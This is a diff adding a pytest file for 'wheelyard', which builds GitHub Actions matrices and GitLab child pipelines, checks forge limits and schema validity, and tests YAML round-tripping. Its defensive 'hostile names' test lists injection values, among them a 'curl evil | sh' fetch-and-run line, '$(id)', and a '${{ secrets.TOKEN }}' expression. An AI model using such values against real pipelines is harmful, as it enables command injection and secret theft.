@@ -1,0 +1,220 @@
+"""GitHub's matrices and GitLab's child pipelines: what they say, and that the forges' own limits hold."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from collections import Counter
+from typing import TYPE_CHECKING, Any
+
+import pytest
+import yaml  # type: ignore[import-untyped]
+from hypothesis import given
+from hypothesis import strategies as st
+
+from support.tasks import packed, some_tasks, task, tickets
+from wheelyard.core.errors import PlanError
+from wheelyard.stages.schedule import Layout, Limits, Matrix, Site, Task, lay_out, matrices, pack, pipelines
+from wheelyard.stages.schedule import yaml as own_yaml
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+    from syrupy.assertion import SnapshotAssertion
+
+LIMITS = Limits(jobs=450, needs=50, tags=("riscv64",), label="ubuntu-24.04-riscv")
+SITE = Site(8, 60)
+NIGHT = (
+    task("numpy", 1500, 1500, 1500),
+    task("scipy", 4000, 4000, needs=["numpy"], runner="riscv-large"),
+    task("pandas", 2500, needs=["numpy"], known=False),
+    task("markupsafe", 60, 60, 60, 60),
+)
+MANY = tuple(task(f"p{number:03}", 60) for number in range(300))
+
+
+def children(layout: Layout, limits: Limits = LIMITS) -> list[dict[str, Any]]:
+    """The child pipelines, read as GitLab reads them: by YAML 1.1."""
+    return [yaml.safe_load(text) for text in pipelines(tickets(layout), layout.needs, limits)]
+
+
+def jobs(child: dict[str, Any]) -> dict[str, Any]:
+    return {name: value for name, value in child.items() if name not in {"stages", ".build"}}
+
+
+# -------------------------------------------------------------------- github
+
+
+def test_githubs_matrices(snapshot: SnapshotAssertion) -> None:
+    assert matrices(tickets(pack(NIGHT, SITE))) == snapshot
+
+
+def test_zero_jobs_make_no_matrix() -> None:
+    assert matrices(()) == ()
+
+
+def test_three_hundred_jobs_make_two_matrices() -> None:
+    found = matrices(tickets(lay_out(MANY, SITE, together=True)))
+    assert [(each.name, len(each.include)) for each in found] == [("wave-1-rest-1", 256), ("wave-1-rest-2", 44)]
+
+
+def test_a_matrix_is_no_larger_than_a_jobs_outputs() -> None:
+    wide = [task("x" * 20_000 + str(number), 60) for number in range(50)]
+    found = matrices(tickets(lay_out(wide, SITE, together=True)))
+    assert len(found) > 1
+    # docs.github.com, "Passing information between jobs": 1 MB, counted in UTF-16.
+    assert all(len(each.text().encode("utf-16-le")) <= 1_000_000 for each in found)
+    assert sum(len(each.include) for each in found) == 50
+
+
+@given(some_tasks())
+def test_every_job_is_in_one_matrix_of_its_wave(tasks: tuple[Task, ...]) -> None:
+    layout = pack(tasks, SITE)
+    found = matrices(tickets(layout))
+    wave = {entry["name"]: each.wave for each in found for entry in each.include}
+    gate = {entry["name"]: each.gate for each in found for entry in each.include}
+    assert Counter(entry["name"] for each in found for entry in each.include) == Counter(
+        job.name for job in layout.jobs
+    )
+    for number, wanted in enumerate(layout.needs):
+        for other in wanted:
+            assert wave[layout.jobs[other].name] < wave[layout.jobs[number].name]
+            assert gate[layout.jobs[other].name]
+    assert len({each.name for each in found}) == len(found)
+    assert all(json.loads(each.text()) == {"include": list(each.include)} for each in found)
+
+
+# -------------------------------------------------------------------- gitlab
+
+
+def test_gitlabs_child_pipeline(snapshot: SnapshotAssertion) -> None:
+    layout = pack(NIGHT, SITE)
+    assert pipelines(tickets(layout), layout.needs, LIMITS) == snapshot
+
+
+def test_a_pipeline_of_nothing_has_a_job_all_the_same(snapshot: SnapshotAssertion) -> None:
+    assert pipelines((), (), LIMITS) == snapshot
+
+
+@given(some_tasks(), st.integers(1, 60))
+def test_what_hangs_together_is_in_one_pipeline(tasks: tuple[Task, ...], most: int) -> None:
+    layout = pack(tasks, SITE)
+    limits = Limits(most, 50, LIMITS.tags, LIMITS.label)
+    try:
+        found = children(layout, limits)
+    except PlanError:
+        assert len(layout.jobs) > most  # and what is told of it has a test of its own
+        return
+    if not layout.jobs:
+        return
+    assert Counter(name for child in found for name in jobs(child)) == Counter(job.name for job in layout.jobs)
+    for child in found:
+        assert 0 < len(jobs(child)) <= most
+        for job in jobs(child).values():
+            assert {need["job"] for need in job["needs"]} <= set(jobs(child))
+
+
+def test_three_hundred_jobs_fit_into_what_the_server_takes() -> None:
+    layout = lay_out(MANY, SITE, together=True)
+    assert [len(jobs(child)) for child in children(layout)] == [300]
+    assert [len(jobs(child)) for child in children(layout, Limits(128, 50, ("riscv64",), ""))] == [128, 128, 44]
+
+
+def test_too_many_needs_are_told() -> None:
+    base = [task(f"base{number}", 60) for number in range(4)]
+    layout = packed(*base, task("top", 60, needs=[each.package for each in base]))
+    with pytest.raises(PlanError) as raised:
+        pipelines(tickets(layout), layout.needs, Limits(450, 3, ("riscv64",), ""))
+    assert raised.value.what == "GitLab lets a job wait for 3 others at most"
+    assert raised.value.details == ("top 1.0 cp312 waits for 4 jobs",)
+
+
+def test_what_is_too_large_for_one_pipeline_is_told() -> None:
+    layout = packed(task("base", 60), *(task(f"user{number}", 60, needs=["base"]) for number in range(5)))
+    with pytest.raises(PlanError, match="6 jobs hang together, and one pipeline takes 4"):
+        pipelines(tickets(layout), layout.needs, Limits(4, 50, ("riscv64",), ""))
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="the tool is for Linux")
+@pytest.mark.parametrize("tasks", [(), NIGHT, MANY], ids=["nothing", "a night", "three hundred"])
+def test_a_child_pipeline_is_valid_by_gitlabs_own_schema(tasks: tuple[Task, ...], tmp_path: Path) -> None:
+    pytest.importorskip("check_jsonschema", reason="not on riscv64")
+    layout = pack(tasks, SITE)
+    files = []
+    for number, text in enumerate(pipelines(tickets(layout), layout.needs, LIMITS)):
+        files.append(tmp_path / f"{number}.yml")
+        files[-1].write_text(text, encoding="utf-8")
+    command = [sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.gitlab-ci", *map(str, files)]
+    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=120)
+    assert done.returncode == 0, done.stdout + done.stderr
+
+
+def test_the_script_of_a_job_builds_each_wheel_and_fails_if_one_does(tmp_path: Path) -> None:
+    """Run as GitLab's shell runs it, with a stand-in for the command that notes how it was called."""
+    child = children(packed(task("a", 60, 60), task("b", 60, 60, 60, needs=["a"], known=False)))[0]
+    (tmp_path / "ci").mkdir()
+    stand_in = tmp_path / "ci/bootstrap"
+    stand_in.write_text('#!/bin/sh\necho "$@" >> calls\ncase "$*" in *cp313*) exit 40;; esac\n')
+    stand_in.chmod(0o755)
+    variables = {**next(job for name, job in jobs(child).items() if name.startswith("b "))["variables"]}
+    variables["WHEELYARD_WHEELS"] = "cp312,cp313 cp314 cp314t"
+    script = "\n".join(child[".build"]["script"])
+    done = subprocess.run(["bash", "-eo", "pipefail", "-c", script], cwd=tmp_path, env=variables, check=False)
+    assert done.returncode == 40
+    build = "wheelyard build b --version 1.0 --image official"
+    assert (tmp_path / "calls").read_text().splitlines() == [
+        "wheelyard publish --to dist/index a",
+        f"{build} --python cp312 --python cp313",
+        f"{build} --python cp314",
+        f"{build} --python cp314t",
+    ]
+
+
+# ------------------------------------------------------------- hostile names
+
+HOSTILE = [
+    "a\nscript: [evil]",
+    'a"; curl evil | sh #',
+    "$(id)",
+    "${{ secrets.TOKEN }}",
+    "yes",
+    "- a",
+    "a: b",
+    "é\u2028\x7f\x85\U0001f600",
+    "*x &y !z",
+]
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_hostile_name_stays_a_value(name: str) -> None:
+    layout = packed(task(name, 60), task("user", 60, needs=[name]))
+    (child,) = children(layout)
+    assert set(jobs(child)) == {f"{name} 1.0 cp312", "user 1.0 cp312"}
+    assert jobs(child)[f"{name} 1.0 cp312"]["variables"]["WHEELYARD_PACKAGE"] == name
+    assert name not in "".join(child[".build"]["script"])
+    assert set(child) - set(jobs(child)) == {"stages", ".build"}
+    found: list[Matrix] = list(matrices(tickets(layout)))
+    for each in found:
+        text = each.text()
+        assert "\n" not in text
+        assert text.isascii()
+        assert json.loads(text)["include"]
+
+
+@given(
+    st.recursive(
+        st.text() | st.booleans() | st.integers(),
+        lambda inner: st.dictionaries(st.text(min_size=1), inner, max_size=3) | st.lists(st.text(), max_size=3),
+        max_leaves=12,
+    ).map(lambda value: {"key": value})
+)
+def test_what_is_written_is_read_back(value: dict[str, Any]) -> None:
+    if any(0xD800 <= ord(char) <= 0xDFFF for char in json.dumps(value, ensure_ascii=False)):
+        return  # half a character is none
+    assert yaml.safe_load(own_yaml.dump(value)) == value
+
+
+def test_what_is_no_yaml_of_ours_is_refused() -> None:
+    with pytest.raises(TypeError, match="float"):
+        own_yaml.dump({"a": 1.5})
